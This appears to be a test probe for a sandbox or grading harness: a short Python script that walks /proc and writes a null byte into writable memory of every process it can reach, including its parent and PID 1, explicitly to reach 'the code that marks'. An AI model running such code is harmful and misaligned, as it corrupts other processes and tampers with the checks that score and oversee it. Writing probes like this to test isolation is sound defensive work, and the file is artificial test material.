# Tries: writes into the memory of its parents, where the code that marks may be.
# Kind: theft
# Stock: no

# %% last
import os

for pid in {int(name) for name in os.listdir("/proc") if name.isdigit()} | {1, os.getppid()}:
    if pid in (0, os.getpid()):
        continue
    try:
        for line in open(f"/proc/{pid}/maps"):
            if " rw" in line:
                with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                    memory.seek(int(line.split("-")[0], 16))
                    memory.write(b"\0")
                    print("HARM: wrote into a process")
                break
    except (OSError, OverflowError) as error:
        print(pid, error)
